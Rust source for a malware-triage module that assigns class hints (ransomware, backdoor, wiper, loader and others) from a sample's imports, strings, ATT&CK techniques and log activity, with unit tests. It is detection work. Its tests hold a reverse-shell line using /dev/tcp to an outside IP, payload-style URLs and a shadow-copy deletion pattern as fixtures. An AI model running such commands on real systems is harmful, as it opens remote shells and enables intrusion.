//! Class hints: which kind of malware (ransomware, stealer, miner, loader/dropper,
//! backdoor/RAT, worm, wiper) a sample's co-occurring behaviours point to, each with a
//! confidence and the evidence lines that earned it.
//!
//! Driven by `data/class-hints.txt` (syntax at its top): a class holds when every `need` line
//! has an alternative that holds, each line by a fact of its own, and its `evidence` lines
//! weigh at least its lowest `level`, each fact once.
//! The facts read are the sample's own: ATT&CK techniques at medium or high confidence,
//! imports and APIs resolved at run time, strings, indicator types, PE resource tags, and two
//! signals (a URL to a bare IP address, packing). Several hints may stand; none is a plain
//! "no class".
//!
//! The table also names log activity (`event`, `events`, `activity` alternatives). This
//! module reads no log: those alternatives hold only through an [`Activity`] that a module
//! reading both samples and logs gives to [`hints_with`] (`crate::activity`); [`hints`]
//! (static evidence alone) never sees them hold.

use super::behavior::fold;
use super::Triage;
pub use crate::findings::classes::{summary, ClassHint};
use crate::findings::Confidence;
use crate::ioc::{validate, IocKind, Scope};
use crate::tables;
use std::collections::BTreeSet;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::sync::OnceLock;

/// What one alternative looks at.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Technique,
    Api,
    String,
    Ioc,
    Resource,
    Signal,
    /// `event ACTION TEXT`: a log event of that action (`*`: any) holding TEXT.
    Event,
    /// `events ACTION N`: at least N log events of that action.
    Events,
    /// `activity NAME`: a pattern across log events (`download-execute`).
    Activity,
}

impl Kind {
    fn name(self) -> &'static str {
        match self {
            Kind::Technique => "technique",
            Kind::Api => "api",
            Kind::String => "string",
            Kind::Ioc => "ioc",
            Kind::Resource => "resource",
            Kind::Signal => "signal",
            Kind::Event => "event",
            Kind::Events => "events",
            Kind::Activity => "activity",
        }
    }
}

/// Log activity the class table can read, given by a module that reads logs.
pub trait Activity {
    /// What makes the log alternative hold (`kind` is `event`, `events` or `activity`,
    /// `value` as the table writes it, lower-case), in words naming the log and the event;
    /// `None` when it does not hold.
    fn holds(&self, kind: &str, value: &str) -> Option<String>;
}

/// Every log alternative of the table, as `(kind, value)`: what a reader of logs must watch.
pub fn log_alternatives() -> Vec<(&'static str, &'static str)> {
    let mut out: Vec<(&str, &str)> = table()
        .iter()
        .flat_map(|c| {
            c.need
                .iter()
                .flatten()
                .chain(c.evidence.iter().flat_map(|e| &e.alternatives))
        })
        .filter(|a| matches!(a.kind, Kind::Event | Kind::Events | Kind::Activity))
        .map(|a| (a.kind.name(), a.value.as_str()))
        .collect();
    out.sort_unstable();
    out.dedup();
    out
}

#[derive(Debug, Clone)]
struct Alternative {
    kind: Kind,
    value: String,
}

#[derive(Debug, Clone)]
struct Evidence {
    weight: f64,
    alternatives: Vec<Alternative>,
}

/// One class of the table.
#[derive(Debug, Clone, Default)]
pub struct Class {
    /// Class name.
    pub name: String,
    need: Vec<Vec<Alternative>>,
    evidence: Vec<Evidence>,
    levels: Vec<(Confidence, f64)>,
}

/// Parses `class-hints.txt`. Errors name the line.
pub fn parse(text: &str) -> Result<Vec<Class>, crate::Error> {
    let mut classes: Vec<Class> = Vec::new();
    for (n, line) in crate::tables::numbered_entries(text) {
        let (word, rest) = line.split_once(char::is_whitespace).unwrap_or((line, ""));
        let rest = rest.trim();
        if word == "class" {
            if rest.is_empty() {
                return Err(crate::Error::parse_at(n, "class without a name"));
            }
            classes.push(Class {
                name: rest.to_string(),
                ..Class::default()
            });
            continue;
        }
        let class = classes
            .last_mut()
            .ok_or_else(|| crate::Error::parse_at(n, format!("'{word}' before any class")))?;
        match word {
            // what the class is called in the exports: `crate::findings::classes`
            "stix" | "misp" => {}
            "need" => class.need.push(alternatives(rest, n)?),
            "evidence" => {
                let (w, rest) = rest.split_once(char::is_whitespace).unwrap_or((rest, ""));
                let weight: f64 = w.parse().map_err(|_| {
                    crate::Error::parse_at(n, format!("evidence needs a weight, not '{w}'"))
                })?;
                class.evidence.push(Evidence {
                    weight,
                    alternatives: alternatives(rest, n)?,
                });
            }
            "level" => {
                let (c, s) = rest.split_once(char::is_whitespace).unwrap_or((rest, ""));
                let score: f64 = s
                    .trim()
                    .parse()
                    .map_err(|_| crate::Error::parse_at(n, "level needs a score"))?;
                let c = Confidence::from_name(c).ok_or_else(|| {
                    crate::Error::parse_at(
                        n,
                        format!("level must be low, medium or high, not '{c}'"),
                    )
                })?;
                class.levels.push((c, score));
                class.levels.sort_by(|a, b| b.1.total_cmp(&a.1));
            }
            other => {
                return Err(crate::Error::parse_at(
                    n,
                    format!("unknown keyword '{other}'"),
                ))
            }
        }
    }
    for c in &classes {
        if c.levels.is_empty() {
            return Err(crate::Error::parse(format!(
                "class {} has no level",
                c.name
            )));
        }
    }
    Ok(classes)
}

fn alternatives(text: &str, n: usize) -> Result<Vec<Alternative>, crate::Error> {
    let mut out: Vec<Alternative> = Vec::new();
    for alt in text.split('|').map(str::trim).filter(|a| !a.is_empty()) {
        let (first, rest) = alt.split_once(char::is_whitespace).unwrap_or((alt, ""));
        let kind = match first {
            "technique" => Some(Kind::Technique),
            "api" => Some(Kind::Api),
            "string" => Some(Kind::String),
            "ioc" => Some(Kind::Ioc),
            "resource" => Some(Kind::Resource),
            "signal" => Some(Kind::Signal),
            "event" => Some(Kind::Event),
            "events" => Some(Kind::Events),
            "activity" => Some(Kind::Activity),
            _ => None,
        };
        let (kind, value) = match (kind, out.last()) {
            (Some(k), _) if !rest.trim().is_empty() => (k, rest.trim()),
            (Some(_), _) => return Err(crate::Error::parse_at(n, format!("'{alt}' has no value"))),
            (None, Some(prev)) => (prev.kind, alt),
            (None, None) => return Err(crate::Error::parse_at(n, format!("'{alt}' has no kind"))),
        };
        let value = match kind {
            Kind::Api => fold(value),
            Kind::String | Kind::Event | Kind::Events => value.to_ascii_lowercase(),
            _ => value.to_string(),
        };
        let words = value.split_whitespace().count();
        match kind {
            Kind::Event if words < 2 => {
                return Err(crate::Error::parse_at(
                    n,
                    format!("'{alt}': event needs an action and a text"),
                ))
            }
            Kind::Events
                if words != 2
                    || value
                        .split_whitespace()
                        .nth(1)
                        .is_none_or(|c| c.parse::<u64>().is_err()) =>
            {
                return Err(crate::Error::parse_at(
                    n,
                    format!("'{alt}': events needs an action and a count"),
                ))
            }
            _ => {}
        }
        out.push(Alternative { kind, value });
    }
    if out.is_empty() {
        return Err(crate::Error::parse_at(n, "no alternatives"));
    }
    Ok(out)
}

/// The embedded table (an unparsable table gives no classes; a unit test keeps it parsable).
pub fn table() -> &'static [Class] {
    static T: OnceLock<Vec<Class>> = OnceLock::new();
    T.get_or_init(|| parse(tables::CLASS_HINTS).unwrap_or_default())
}

/// The class of the table named `name`.
pub fn class(name: &str) -> Option<&'static Class> {
    table().iter().find(|c| c.name == name)
}

/// The facts of a sample the classes look at.
struct Facts<'a> {
    t: &'a Triage,
    activity: Option<&'a dyn Activity>,
    apis: BTreeSet<String>,
    strings: Vec<(String, &'a str)>,
    resources: Vec<(String, String)>,
    ip_url: Option<&'a str>,
}

impl<'a> Facts<'a> {
    fn new(t: &'a Triage, activity: Option<&'a dyn Activity>) -> Facts<'a> {
        let macho = matches!(
            t.format,
            super::SampleFormat::Macho | super::SampleFormat::MachoFat
        );
        // (the Go runtime's imports, an API layer's: no sign of what the module does)
        let not_behaviour = super::behavior::NotBehaviour::of(
            t.toolchains.iter().any(|c| c.name == "go"),
            &t.imports,
            super::behavior::implemented_exports(
                t.pe.as_ref().map_or(&[][..], |p| &p.exports),
                t.elf.as_ref().map_or(&[][..], |e| &e.exports),
            ),
        );
        let mut apis: BTreeSet<String> = t
            .imports
            .iter()
            .filter(|i| !not_behaviour.covers(i))
            .filter_map(|i| i.name.as_deref())
            .map(|n| {
                fold(if macho {
                    n.strip_prefix('_').unwrap_or(n)
                } else {
                    n
                })
            })
            .collect();
        apis.extend(t.behavior.dynamic_apis.iter().map(|d| fold(&d.name)));
        let strings = t
            .strings
            .iter()
            .map(|s| (s.value.to_ascii_lowercase(), s.value.as_str()))
            .collect();
        let resources =
            t.pe.as_ref()
                .map(|p| {
                    p.resources
                        .iter()
                        .flat_map(|r| r.tags().into_iter().map(|tag| (tag, r.name.clone())))
                        .collect()
                })
                .unwrap_or_default();
        let ip_url = ip_url(t);
        Facts {
            t,
            activity,
            apis,
            strings,
            resources,
            ip_url,
        }
    }

    /// Every fact that makes `alt` hold (at most [`MAX_FACTS`]), each as a key that names
    /// the fact (the technique found, the API, the sample's string, ...) and in words.
    fn holding(&self, alt: &Alternative) -> Vec<(String, String)> {
        let v = alt.value.as_str();
        let one = |words: String| vec![(words.clone(), words)];
        match alt.kind {
            Kind::Technique => self
                .t
                .techniques
                .iter()
                .filter(|x| x.confidence != Confidence::Low)
                .filter(|x| x.id == v || x.id.strip_prefix(v).is_some_and(|r| r.starts_with('.')))
                .take(MAX_FACTS)
                .map(|x| {
                    let words = format!("technique {} {} ({})", x.id, x.name, x.confidence);
                    (format!("technique {}", x.id), words)
                })
                .collect(),
            Kind::Api => {
                if self.apis.contains(v) {
                    one(format!("api {v}"))
                } else {
                    Vec::new()
                }
            }
            Kind::String => self
                .strings
                .iter()
                .filter(|(lower, s)| super::behavior::holds_string(s, lower, v))
                .take(MAX_FACTS)
                .map(|(_, s)| (format!("string {s}"), format!("string \"{}\"", shorten(s))))
                .collect(),
            Kind::Ioc => self
                .t
                .iocs
                .iter()
                .filter(|i| i.kind.as_str() == v)
                .take(MAX_FACTS)
                .map(|i| {
                    (
                        format!("{v} {}", i.value),
                        format!("{v} {}", shorten(&i.value)),
                    )
                })
                .collect(),
            Kind::Resource => self
                .resources
                .iter()
                .filter(|(tag, _)| tag == v)
                .take(MAX_FACTS)
                .map(|(tag, name)| {
                    let words = format!("resource {name} ({tag})");
                    (words.clone(), words)
                })
                .collect(),
            Kind::Signal => match v {
                "ip-url" => self
                    .ip_url
                    .map(|u| {
                        one(format!(
                            "URL to an IP address {}",
                            crate::ioc::refang::defang(IocKind::Url, u)
                        ))
                    })
                    .unwrap_or_default(),
                "packed" if self.t.packer.verdict == super::behavior::Packing::Packed => {
                    one("packed".to_string())
                }
                _ => Vec::new(),
            },
            Kind::Event | Kind::Events | Kind::Activity => self
                .activity
                .and_then(|a| a.holds(alt.kind.name(), v))
                .map(one)
                .unwrap_or_default(),
        }
    }

    /// The facts that make any of `alts` hold, in the order of the alternatives, each once:
    /// `(key, words, the alternative that found it)`.
    fn candidates(&self, alts: &[Alternative]) -> Vec<(String, String, String)> {
        let mut out: Vec<(String, String, String)> = Vec::new();
        for alt in alts {
            for (key, words) in self.holding(alt) {
                if !out.iter().any(|(k, _, _)| *k == key) {
                    out.push((key, words, format!("{} {}", alt.kind.name(), alt.value)));
                }
            }
        }
        out
    }
}

/// How many facts of one alternative are told apart (a pattern found in thousands of
/// strings needs only a few of them to show that each line has a fact of its own).
const MAX_FACTS: usize = 8;

/// Whether each line can be given a fact of its own (`lines` holds each line's facts as
/// `(key, the alternative that found it)`): one technique found does not meet two `need`
/// lines (`T1027.013` is no sign of a second behaviour because a second line names
/// `T1027`, which matches it too), unless both lines name it alike (`technique T1561` on
/// both of the wiper's lines: a disk wipe is both a disk named and a write).
fn distinct_facts(lines: &[Vec<(String, String)>], used: &mut Vec<(String, String)>) -> bool {
    let Some((first, rest)) = lines.split_first() else {
        return true;
    };
    for fact in first {
        if used
            .iter()
            .any(|(key, alt)| *key == fact.0 && *alt != fact.1)
        {
            continue;
        }
        used.push(fact.clone());
        if distinct_facts(rest, used) {
            return true;
        }
        used.pop();
    }
    false
}

fn shorten(s: &str) -> String {
    const MAX: usize = 60;
    if s.chars().count() <= MAX {
        s.to_string()
    } else {
        let cut: String = s.chars().take(MAX).collect();
        format!("{cut}…")
    }
}

/// The first URL of the sample whose host is an IP address literal that reaches another
/// machine: not loopback (`tcp://127.0.0.1:5555`, a local service's default), link-local,
/// multicast or unspecified (`http://0.0.0.0:8080`, a listening address).
pub fn ip_url(t: &Triage) -> Option<&str> {
    t.iocs
        .iter()
        .filter(|i| i.kind == IocKind::Url)
        .map(|i| i.value.as_str())
        .find(|u| url_host_ip(u).is_some_and(reaches_out))
}

/// Whether an address names another machine (see [`ip_url`]).
fn reaches_out(ip: IpAddr) -> bool {
    let scope = match ip {
        IpAddr::V4(v4) if v4.octets()[0] == 0 => return false,
        IpAddr::V4(v4) => validate::ipv4_scope(v4),
        IpAddr::V6(v6) if v6.is_unspecified() => return false,
        IpAddr::V6(v6) => validate::ipv6_scope(v6),
    };
    !matches!(scope, Scope::Loopback | Scope::LinkLocal | Scope::Multicast)
}

/// Whether a URL's host is an IPv4 or IPv6 address literal.
pub fn url_host_is_ip(url: &str) -> bool {
    url_host_ip(url).is_some()
}

/// A URL's host, when it is an IPv4 or IPv6 address literal.
fn url_host_ip(url: &str) -> Option<IpAddr> {
    let (_, rest) = url.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    if let Some(bracketed) = host.strip_prefix('[') {
        return bracketed
            .split(']')
            .next()
            .and_then(|h| h.parse::<Ipv6Addr>().ok())
            .map(IpAddr::V6);
    }
    let host = host.split(':').next().unwrap_or("");
    host.parse::<Ipv4Addr>().ok().map(IpAddr::V4)
}

/// The class hints of a sample from its static evidence, in table order.
pub fn hints(t: &Triage) -> Vec<ClassHint> {
    hints_with(t, None)
}

/// The class hints of a sample from its static evidence and, when given, the log activity
/// attributed to it, in table order.
pub fn hints_with(t: &Triage, activity: Option<&dyn Activity>) -> Vec<ClassHint> {
    let facts = Facts::new(t, activity);
    let mut out = Vec::new();
    for class in table() {
        let needs: Vec<Vec<(String, String)>> = class
            .need
            .iter()
            .map(|alts| {
                facts
                    .candidates(alts)
                    .into_iter()
                    .map(|(key, _, alt)| (key, alt))
                    .collect()
            })
            .collect();
        if !distinct_facts(&needs, &mut Vec::new()) {
            continue;
        }
        // each fact weighs once: a line whose only facts earlier lines counted adds nothing
        let mut score = 0.0;
        let mut counted: Vec<String> = Vec::new();
        let mut evidence = Vec::new();
        for e in &class.evidence {
            let fresh = facts
                .candidates(&e.alternatives)
                .into_iter()
                .find(|(key, _, _)| !counted.contains(key));
            if let Some((key, what, _)) = fresh {
                score += e.weight;
                counted.push(key);
                if !evidence.contains(&what) {
                    evidence.push(what);
                }
            }
        }
        if let Some((confidence, _)) = class.levels.iter().find(|(_, min)| score >= *min) {
            out.push(ClassHint {
                class: class.name.clone(),
                confidence: *confidence,
                evidence,
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_table_parses() {
        let classes = parse(tables::CLASS_HINTS).expect("class-hints.txt parses");
        assert!(classes.len() >= 7);
        let labels = crate::findings::classes::labels();
        let names: Vec<&str> = classes.iter().map(|c| c.name.as_str()).collect();
        let labelled: Vec<&str> = labels.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, labelled);
    }

    #[test]
    fn errors_name_the_line() {
        assert!(parse("need api X\n")
            .unwrap_err()
            .to_string()
            .contains("line 1"));
        assert!(parse("class x\nevidence w api X\n")
            .unwrap_err()
            .to_string()
            .contains("line 2"));
        assert!(parse("class x\nneed | \nlevel high 1\n")
            .unwrap_err()
            .to_string()
            .contains("line 2"));
        assert!(parse("class x\nneed Foo\n")
            .unwrap_err()
            .to_string()
            .contains("no kind"));
    }

    #[test]
    fn bare_values_keep_the_kind_before_them() {
        let c =
            parse("class x\nneed technique T1 | T2 | api CreateFileW | B\nlevel high 1\n").unwrap();
        let kinds: Vec<Kind> = c[0].need[0].iter().map(|a| a.kind).collect();
        assert_eq!(
            kinds,
            [Kind::Technique, Kind::Technique, Kind::Api, Kind::Api]
        );
        assert_eq!(c[0].need[0][2].value, "CreateFile");
    }

    #[test]
    fn log_alternatives_are_checked_and_never_hold_statically() {
        assert!(parse("class x\nneed event process_create\nlevel high 1\n")
            .unwrap_err()
            .to_string()
            .contains("action and a text"));
        assert!(
            parse("class x\nneed events file_rename many\nlevel high 1\n")
                .unwrap_err()
                .to_string()
                .contains("action and a count")
        );
        let c =
            parse("class x\nneed event * Delete Shadows | events file_rename 3\nlevel high 1\n")
                .unwrap();
        assert_eq!(c[0].need[0][0].value, "* delete shadows");
        assert_eq!(c[0].need[0][1].kind, Kind::Events);
        let logs = log_alternatives();
        assert!(logs.contains(&("activity", "download-execute")), "{logs:?}");
        assert!(logs.contains(&("events", "file_rename 25")), "{logs:?}");
    }

    #[test]
    fn each_need_line_has_a_fact_of_its_own() {
        let fact = |key: &str, alt: &str| (key.to_string(), alt.to_string());
        let met = |lines: &[Vec<(String, String)>]| distinct_facts(lines, &mut Vec::new());
        let found = fact("technique T1027.013", "technique T1027.013");
        let as_parent = fact("technique T1027.013", "technique T1027");
        let decoded = fact("technique T1140", "technique T1140");
        assert!(!met(&[vec![found.clone()], vec![as_parent.clone()]]));
        // the second line finds another fact
        assert!(met(&[
            vec![found.clone()],
            vec![as_parent.clone(), decoded.clone()]
        ]));
        // the first line takes the fact the second one cannot do without
        assert!(met(&[vec![as_parent, decoded], vec![found.clone()]]));
        // one fact both lines name alike meets both (a logged raw disk write for a wiper)
        assert!(met(&[vec![found.clone()], vec![found.clone()]]));
        assert!(!met(&[vec![found], Vec::new()]));
        assert!(met(&[]));
    }

    /// The triage of a built benign corpus program, whose facts the tests then set.
    fn built_benign() -> Triage {
        let path = concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/corpus/benign/built/backupd_x64.exe"
        );
        let data = std::fs::read(path).expect("corpus sample");
        crate::sample::triage("backupd_x64.exe", &data)
    }

    /// An import of `name` from `library`.
    fn import(library: &str, name: &str) -> crate::findings::triage::Import {
        crate::findings::triage::Import {
            library: library.to_string(),
            name: Some(name.to_string()),
            ordinal: None,
            delay: false,
        }
    }

    /// A technique found at medium confidence.
    fn medium(id: &str, name: &str) -> crate::findings::triage::Technique {
        crate::findings::triage::Technique {
            id: id.to_string(),
            name: name.to_string(),
            confidence: Confidence::Medium,
            evidence: Vec::new(),
        }
    }

    /// A technique found once counts once: `T1027.013` (an encrypted resource, or a key
    /// name in a crypto library's error strings) meets the loader's first `need` line and,
    /// through `T1027`, its second: alone it is no loader, with a second sign it is.
    #[test]
    fn one_technique_is_one_sign_of_a_class() {
        let mut t = built_benign();
        let technique = |id: &str| medium(id, id);
        let loader = |t: &Triage| hints(t).into_iter().find(|h| h.class == "loader");
        t.techniques = vec![technique("T1027.013")];
        assert_eq!(loader(&t), None);
        t.techniques.push(technique("T1140"));
        let hint = loader(&t).expect("two signs make a loader hint");
        assert_eq!(hint.confidence, Confidence::Medium);
        assert_eq!(hint.evidence.len(), 2, "{:?}", hint.evidence);
    }

    /// One logged write to a raw disk meets both of the wiper's `need` lines, which name it
    /// alike, and weighs once.
    #[test]
    fn one_fact_named_alike_meets_two_need_lines() {
        struct DiskWrite;
        impl Activity for DiskWrite {
            fn holds(&self, kind: &str, value: &str) -> Option<String> {
                (kind == "event" && value == "file_modify \\\\.\\physicaldrive")
                    .then(|| "session.evtx record 7: file_modify \\\\.\\PhysicalDrive0".to_string())
            }
        }
        let mut t = built_benign();
        // no write API of its own: the logged write alone meets the second line
        t.imports
            .retain(|i| !matches!(i.name.as_deref(), Some("WriteFile" | "NtWriteFile")));
        let wiper = |activity: Option<&dyn Activity>| {
            hints_with(&t, activity)
                .into_iter()
                .find(|h| h.class == "wiper")
        };
        assert_eq!(wiper(None), None);
        let hint = wiper(Some(&DiskWrite)).expect("a logged raw disk write");
        assert_eq!(hint.confidence, Confidence::Medium);
        assert_eq!(hint.evidence.len(), 1, "{:?}", hint.evidence);
    }

    /// Keystrokes read through imports and an Internet API are what a GUI framework has
    /// (MFC); a remote shell's pipes beside them make a backdoor hint.
    #[test]
    fn keylogging_and_the_internet_are_no_backdoor_alone() {
        let mut t = built_benign();
        t.techniques = vec![medium("T1056.001", "Input Capture: Keylogging")];
        t.imports.push(import("wininet.dll", "InternetOpenW"));
        let backdoor = |t: &Triage| hints(t).into_iter().find(|h| h.class == "backdoor");
        assert_eq!(backdoor(&t), None);
        t.imports.push(import("kernel32.dll", "CreatePipe"));
        let hint = backdoor(&t).expect("a keylogger with a remote shell's pipes");
        assert_eq!(hint.confidence, Confidence::Medium);
    }

    /// bash's own table of special files spells `/dev/tcp/*/*` (a word of
    /// `data/attack-string-exceptions.txt`): with a socket and `dup2` it is no backdoor;
    /// a reverse shell's `/dev/tcp/HOST/PORT` (or a format that fills them in) is.
    #[test]
    fn a_shells_own_dev_tcp_table_is_no_backdoor() {
        let mut t = built_benign();
        t.imports.push(import("libc.so.6", "dup2"));
        t.imports.push(import("libc.so.6", "socket"));
        let with_string = |value: &str| {
            let mut t = t.clone();
            t.strings.push(crate::findings::triage::FoundString {
                offset: 0,
                encoding: crate::ioc::Encoding::Ascii,
                section: None,
                value: value.to_string(),
                tags: Vec::new(),
            });
            hints(&t).into_iter().find(|h| h.class == "backdoor")
        };
        assert_eq!(with_string("/dev/tcp/*/*"), None);
        assert_eq!(with_string("/DEV/UDP/*/*"), None);
        for reverse in [
            "/dev/tcp/198.51.100.9/4444",
            "/dev/tcp/%s/%d",
            "/dev/tcp/*/* bash -i >& /dev/tcp/203.0.113.5/443",
        ] {
            assert!(with_string(reverse).is_some(), "{reverse}");
        }
    }

    #[test]
    fn ip_literal_hosts() {
        assert!(url_host_is_ip("http://203.0.113.77/img/logo.gif"));
        assert!(url_host_is_ip("http://198.51.100.23:8080/dl/a.exe"));
        assert!(url_host_is_ip("https://[2001:db8:fe7c::17]/v3/payload.bin"));
        assert!(url_host_is_ip("http://user@192.0.2.1/"));
        assert!(!url_host_is_ip("https://downloads.example.com/a.exe"));
        assert!(!url_host_is_ip("http://203.0.113.example.com/"));
        assert!(!url_host_is_ip("no url"));
        assert!(url_host_is_ip("tcp://127.0.0.1:5555"));
    }

    /// A URL to a local or unspecified address is no sign of a hard-coded server.
    #[test]
    fn ip_urls_that_reach_another_machine() {
        let reaches = |url: &str| url_host_ip(url).is_some_and(reaches_out);
        assert!(reaches("http://203.0.113.77/img/logo.gif"));
        assert!(reaches("http://10.0.0.5:8080/stage2"));
        assert!(reaches("https://[2001:db8:fe7c::17]/v3/payload.bin"));
        assert!(!reaches("tcp://127.0.0.1:5555"));
        assert!(!reaches("http://0.0.0.0:8080/"));
        assert!(!reaches("http://[::1]:631/"));
        assert!(!reaches("http://[::]:80/"));
        assert!(!reaches("http://169.254.169.254/latest/meta-data/"));
        assert!(!reaches("udp://239.255.255.250:1900"));
        assert!(!reaches("https://downloads.example.com/a.exe"));
    }
}
